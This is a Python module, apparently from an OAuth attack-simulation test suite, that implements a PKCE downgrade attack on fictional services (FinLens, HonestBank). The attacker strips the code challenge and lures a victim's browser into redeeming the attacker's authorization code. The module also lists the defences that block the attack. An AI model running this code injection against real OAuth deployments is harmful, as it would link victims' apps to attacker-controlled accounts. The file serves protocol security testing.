"""pkce-downgrade: the challenge stripped from the attacker's own authorization request.

A1 starts a flow at FinLens in its own browser, removes code_challenge and
code_challenge_method, signs in as mallory: code_M carries no challenge. The lured victim's
browser starts "Link HonestBank" (verifier_V pending) and is sent to the callback with
code_M; FinLens redeems it with verifier_V, which an AS without a downgrade check accepts.
BCP §2.1.1 / §4.8.2 (downgrade), RFC 7636 §4.4.1 (challenge required). With PAR the
challenge is in the pushed request: the attacker can only send its own unpushed request.
"""

from __future__ import annotations

import secrets

from attacker import frontchannel as fc
from attacker.attack_context import AttackContext
from attacker.attacks import Attack


def _without_challenge(ctx: AttackContext, url: str) -> str:
    query = fc.query_of(url)
    if "code_challenge" in query or "scope" in query:
        return fc.with_query(url, code_challenge=None, code_challenge_method=None)
    # PAR: the front channel carries only client_id and request_uri (RFC 9126 §4), the
    # challenge sits in the pushed request. The attacker writes the request itself instead.
    ctx.step("attacker", "finds only a request_uri in the URL: writes FinLens's request "
             "itself, without code_challenge")
    return fc.with_query(url.split("?", 1)[0], response_type="code", client_id=query["client_id"],
                         redirect_uri=ctx.url("tpp", "/callback"), scope=fc.FINLENS_SCOPE,
                         state=secrets.token_urlsafe(24), nonce=secrets.token_urlsafe(24))


def run(ctx: AttackContext) -> None:
    attacker = fc.AttackerBrowser(ctx)
    url = attacker.start_link()
    stripped = _without_challenge(ctx, url)
    own = attacker.authorize(stripped, what="opens the request without code_challenge, signs in "
                             "as mallory and consents; keeps code_M")
    assert own.callback_url is not None
    victim = ctx.victim("alice")
    victim.link(stop="login")   # the lure makes the victim's browser start "Link HonestBank"
    fc.lure_to_callback(victim, own.callback_url)
    page = victim.dashboard()
    ids = fc.expect_accounts_of(ctx, page, "mallory", "the victim's")
    ctx.succeeded(f"the victim's FinLens is linked to {len(ids)} of mallory's accounts",
                  {"victim_tpp_user": victim.tpp_user, "accounts": ids})


ATTACK = Attack(
    id="pkce-downgrade", attacker="A1", legs=("own",), victim="live", needs={"pkce": "S256"},
    title="Challenge stripped from the attacker's own request",
    blocked_by=("pkce_required", "pkce_downgrade_check", "par_required", "jar_required",
                "tpp_checks_state"),
    premise="Has its own browser, FinLens account and HonestBank customer (mallory); sends the "
            "victim links his browser follows.",
    goal="the victim's FinLens linked to mallory's account", run=run,
    refs=("BCP §4.8", "BCP §2.1.1", "RFC 7636 §4.4.1"),
    also_blocked_by={
        "tpp_checks_nonce":
            "code_M's ID token carries the nonce of mallory's session, and FinLens compares it "
            "with the one it sent for the victim's link: the OpenID nonce stops an injected code "
            "as PKCE does (RFC 9700 §4.5.3.2)",
    },
)
